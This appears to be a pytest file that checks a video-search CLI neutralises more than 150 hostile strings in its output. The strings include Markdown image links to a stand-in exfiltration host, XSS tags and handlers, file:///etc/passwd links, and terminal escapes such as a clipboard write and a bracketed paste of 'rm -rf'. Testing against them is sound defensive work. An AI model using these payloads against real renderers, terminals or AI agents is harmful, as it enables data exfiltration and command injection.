"""150 texts that would act where they are shown: in a terminal, in JSON, as Markdown, in a log, in a prompt."""

from __future__ import annotations

import contextlib
import html
import io
import json
import os
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from agentvid.answer import plain
from agentvid.cli import main
from agentvid.cli.output import note, print_json, print_table, print_text
from agentvid.untrusted import Fence, quoted

URL = "http://exfil.example/p?q=1"
MARKDOWN = [
    f"![x]({URL})", f"[x]({URL})", f"[![x]({URL})]({URL})", f"![x][1] [1]: {URL}", f"[x]: {URL}", f"<{URL}>", URL,
    "www.exfil.example", f"[x](<{URL}>)", f'![x]({URL} "title")', f"[x]( {URL} )", f"![x\\]]({URL})", f"![]({URL})",
    f"![[x]]({URL})", f"[x] ({URL})", f"![x](\n{URL})", "[a](javascript:alert(1))", "[a](data:text/html,x)",
    "[a](vbscript:x)", "[a](file:///etc/passwd)", "![a](//exfil.example/p)", "[a](/relative)", "[a](relative)",
    "![a](", "[a][", "<mailto:a@exfil.example>", "mailto:a@exfil.example", f"`x` ![x]({URL}) `x`", f"- [ ] ![x]({URL})",
    f"| a | b |\n|---|---|\n| ![x]({URL}) | x |", f"![ｘ]（{URL}）", f"！［x］（{URL}）",
]  # fmt: skip
HTML = [
    f'<img src="{URL}">', f"<img src={URL}/>", "<script>x()</script>", "<ScRiPt>x()</sCrIpT>", "<svg/onload=x()>",
    "<svg><animate onbegin=x()></svg>", '<iframe srcdoc="x">', '<a href="javascript:x()">y</a>', "<body onload=x()>",
    "<details open ontoggle=x()>", '<math href="javascript:x()">', "<style>@import 'http://exfil.example'</style>",
    '<link rel=stylesheet href="//exfil.example">', '<meta http-equiv=refresh content="0;url=//exfil.example">',
    '<form action="//exfil.example"><input>', "<object data=x>", "<embed src=x>", "<video src=x onerror=y>",
    "<!--><script>x()</script>-->", "<![CDATA[<script>x()</script>]]>", "<<script>x()<</script>", "<scr<script>ipt>",
    "<img src=x onerror=x()", "<svg/onload=x()", "</textarea><script>", "<img\nsrc=x\nonerror=y>", "<?xml version=1?>",
    "＜script＞x()＜/script＞", "<ıframe>", "<a\u200bhref=x>", "<\x00script>x()", "<\x1bscript>x()</\x1bscript>",
    "&lt;script&gt;x()&lt;/script&gt;", "&#60;script&#62;x()", "javascript:x()", "JaVaScRiPt:x()", "java\tscript:x()",
    "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "ｊａｖａｓｃｒｉｐｔ：x()",
]  # fmt: skip
_INTRODUCERS = {"\x1b]": "\x07", "\x1b] ": "\x1b\\", "\x9d": "\x9c"}
ESCAPES = [
    *(f"{start}{command}{end}" for start, end in _INTRODUCERS.items() for command in (
        f"8;;{URL}", "52;c;cm0gLXJm", "0;title", "2;title", "4;1;rgb:f/f/f", "9;note", "1337;File=x", "777;notify;a;b",
    )),
    *(f"{start}{command}" for start in ("\x1b[", "\x9b") for command in (
        "2J", "31m", "0;0H", "?1049h", "6n", "c", ">c", "5i", "8m", "20;1t", "999999b",
    )),
    "\x1bP$qm\x1b\\", "\x1b_Gf=100;AAAA\x1b\\", "\x1b^x\x1b\\", "\x1bXx\x1b\\", "\x1bc", "\x1b(0", "\x90x\x9c", "\x07",
    "\x08\x08\x08", "ok\rnot ok", "\x0b\x0c", "\x7f\x00", "\x85", "\x1b[200~rm -rf\x1b[201~", "\x1b",
]  # fmt: skip
INVISIBLE = [
    "\u202egpj.exe", "\u2066x\u2069", "a\u200bb", "\ufeff", "\U000e0041\U000e0042", "\u00ad", "\u2060", "\ue000",
    "\ud800", "\u061c", "\u180e", "\ufff9x\ufffb", "\U000f0000", "\u202a\u202b\u202c\u202d", "\u2028x\u2029",
    "\u200e\u200f", "a\u0600b", "\u2068\u2069",
]  # fmt: skip
ACTIVE = [*MARKDOWN, *HTML, *ESCAPES, *INVISIBLE]


def test_there_are_enough() -> None:
    assert len(ACTIVE) == len(set(ACTIVE)) >= 150


def printed(write: Callable[[], object], *, error: bool = False) -> str:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        write()
    return err.getvalue() if error else out.getvalue()


def is_inert_in_a_terminal(text: str) -> bool:
    return all(c in "\n\t\u200c\u200d" or unicodedata.category(c) not in {"Cc", "Cf", "Cs", "Co"} for c in text)


@pytest.mark.parametrize("text", ACTIVE, ids=range(len(ACTIVE)))
def test_nothing_is_active_in_any_sink(text: str) -> None:
    said = f"before {text} after"
    for shown in (
        printed(lambda: print_text(said)),
        printed(lambda: print_table(["a"], [[said]])),
        printed(lambda: note(said), error=True),
    ):
        assert is_inert_in_a_terminal(shown)
    document = printed(lambda: print_json({"quote": said}))
    assert document.isascii()
    assert is_inert_in_a_terminal(document)
    assert json.loads(document)["quote"] == said
    answer = plain(said)
    assert is_inert_in_a_terminal(answer)
    assert answer.startswith("before")
    # Once more for whoever normalises, or decodes entities, before showing it.
    for seen in (answer, unicodedata.normalize("NFKC", answer), f"{answer} {answer}"):
        tokens = [token for block in MarkdownIt().parse(seen) for token in (block, *(block.children or ()))]
        assert not {"link_open", "image", "html_inline", "html_block"} & {token.type for token in tokens}, seen
        assert "//" not in seen
        assert "www." not in seen
    block = Fence().wrap([quoted(said, limit=500)])
    assert len(block.splitlines()) == 3
    assert is_inert_in_a_terminal(block)


def test_entities_stay_entities() -> None:
    # Decoding is the renderer's work and its result is text: nothing of ours decodes.
    assert plain("&lt;b&gt;") == "&lt;b&gt;"
    assert html.unescape(plain("&lt;b&gt;")) == "<b>"


def command(*arguments: str) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err), contextlib.suppress(SystemExit):
        main(arguments)
    return out.getvalue(), err.getvalue()


def test_no_command_lets_anything_through(tmp_path: Path) -> None:
    os.environ |= {"AGENTVID_EMBED": "false", "AGENTVID_PLUGINS": "off"}
    rows = [
        {"video": name, "duration": 1_000, "track": "speech", "start": 5 * n, "end": 5 * n + 4, "text": f"tulip {text}"}
        for name, texts in {"talk": ACTIVE, f"<img src=x>\x1b]8;;{URL}\x07 [a]({URL})\u202e": ACTIVE[:3]}.items()
        for n, text in enumerate(texts)
    ]
    file = tmp_path / "rows.jsonl"
    file.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    script = tmp_path / "replies.yaml"
    draft = {"claims": [{"text": f"tulip {text}", "evidence": ["e1"]} for text in ACTIVE[::8]], "abstain": False}
    program = 'hits = search(query="tulip", k=50)\nanswer(kind="what", evidence=hits)'
    script.write_text(json.dumps([{"when": "You write short programs", "reply": program}, json.dumps(draft)]), "utf-8")
    commands = [
        ("import", str(file)), ("ls",), ("show", "talk"), ("search", "tulip", "-k", "200"),
        ("search", "tulip exfil"), ("search", "tulip", "--explain"), ("ask", "What is said about the tulip?"),
        ("ask", "Is a crocodile mentioned?"), ("ask", "How many times is the tulip mentioned?"), ("doctor",),
        ("ask", "Tell me all of the tulip and why", "--model", f"scripted:{script}"),
    ]  # fmt: skip
    seen = 0
    for arguments in commands:
        for options in ((), ("--json",)):
            out, err = command(*arguments, *options)
            assert is_inert_in_a_terminal(out), arguments
            assert is_inert_in_a_terminal(err), arguments
            assert "Traceback" not in err
            if options and out:
                assert out.isascii()
                document = json.loads(out)
                said = [document.get("answer", ""), *(claim["text"] for claim in document.get("claims", []))]
                assert not any(mark in text for text in said for mark in ("//", "<", "](", "www.", "script:"))
            seen += "tulip" in out
    assert seen >= 12
    trace = json.loads(command("ask", "What is said about the tulip?", "--json")[0])["trace_id"]
    for options in ((), ("--json",)):
        assert is_inert_in_a_terminal("".join(command("trace", "show", trace, *options)))
